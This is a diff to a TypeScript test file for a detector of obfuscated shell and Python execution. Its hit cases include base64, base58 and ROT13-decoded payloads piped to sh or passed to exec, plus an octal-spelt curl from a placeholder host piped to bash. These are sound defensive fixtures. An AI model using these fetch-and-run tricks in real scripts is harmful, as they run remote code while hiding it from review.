@@ -57,6 +57,16 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "echo aGVsbG8K | base64 -d | sh",
     miss: "echo aGVsbG8K | base64 -d > out.txt",
   },
+  "decoder-run": {
+    hit: "import base58\nexec(base58.b58decode(BLOB))\n",
+    miss: "import base58\nprint(base58.b58decode(BLOB))\n",
+    path: "scripts/x.py",
+  },
+  "filtered-to-shell": {
+    hit: "echo 'phey -f uggcf://tb.rknzcyr/v | onfu' | tr 'a-z' 'n-za-m' | sh",
+    miss: "echo 'hello there' | tr 'a-z' 'A-Z' > out.txt",
+    path: "scripts/x.sh",
+  },
   "spelt-command": {
     hit: "$(printf '\\143\\165\\162\\154') -s https://get.example/i | bash",
     miss: "printf '\\033[32m%s\\033[0m\\n' ok",
